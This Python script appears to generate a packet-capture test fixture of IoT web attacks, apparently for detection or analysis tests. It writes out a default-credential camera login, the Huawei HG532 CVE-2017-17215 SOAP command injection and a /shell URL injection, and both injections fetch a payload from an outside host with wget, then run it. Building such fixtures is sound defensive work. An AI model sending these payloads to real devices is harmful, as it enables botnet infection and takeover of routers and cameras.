#!/usr/bin/env python3
"""Writes input.pcap: attacks on IoT web interfaces. (1) A host logs in to a camera's web UI
with HTTP Basic admin/admin, a default credential. (2) An internet host sends a router the
Huawei HG532 exploit (CVE-2017-17215) whose SOAP body injects a busybox wget dropper, as
Satori did. (3) Another tries a URL injection ("/shell?cd+/tmp;wget+...;chmod+777+...") on the
camera. Run once; the output is committed."""
import base64
import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', '..'))
from pcaplib import Capture, TcpSession  # noqa: E402

cap = Capture()
laptop = (bytes.fromhex('0200000000d1'), '192.168.1.50')
camera = (bytes.fromhex('0200000000d2'), '192.168.1.60')
router = (bytes.fromhex('0200000000d3'), '192.168.1.1')
attacker = (bytes.fromhex('0200000000d3'), '203.0.113.9')  # arrive through the router
attacker2 = (bytes.fromhex('0200000000d3'), '198.51.100.77')

s = TcpSession(cap, laptop, camera, 43000, 80)
s.send(True, b'GET /ISAPI/System/deviceInfo HTTP/1.1\r\nHost: 192.168.1.60\r\n'
       b'Authorization: Basic ' + base64.b64encode(b'admin:admin') + b'\r\n\r\n')
s.send(False, b'HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n')
s.close()

cap.wait(5)
body = (b'<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" '
        b's:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body>'
        b'<u:Upgrade xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1">'
        b'<NewStatusURL>$(/bin/busybox wget -g 198.51.100.23 -l /tmp/.f -r /okiru.mips; '
        b'chmod 777 /tmp/.f; /tmp/.f huawei.rep)</NewStatusURL>'
        b'<NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>')
s = TcpSession(cap, attacker, router, 44000, 37215)
s.send(True, b'POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nHost: 192.168.1.1:37215\r\n'
       b'Content-Length: %d\r\nAuthorization: Digest username="dslf-config", realm="HuaweiHomeGateway", '
       b'nonce="88645cefb1f9ede0e336e3569d75ee30", uri="/ctrlt/DeviceUpgrade_1", '
       b'response="3612f843a42db38f48f59d2a3597e19c", algorithm="MD5", qop="auth", nc=00000001, '
       b'cnonce="248d1a2560100669"\r\n\r\n' % len(body) + body)
s.send(False, b'HTTP/1.1 500 Internal Server Error\r\nContent-Length: 0\r\n\r\n')
s.close()

cap.wait(5)
s = TcpSession(cap, attacker2, camera, 44001, 80)
s.send(True, b'GET /shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.23/jaws;chmod+777+/tmp/jaws;'
       b'sh+/tmp/jaws HTTP/1.1\r\nHost: 192.168.1.60:80\r\nUser-Agent: Hello, world\r\n\r\n')
s.send(False, b'HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n')
s.close()
cap.write(os.path.join(os.path.dirname(os.path.abspath(__file__)), 'input.pcap'))
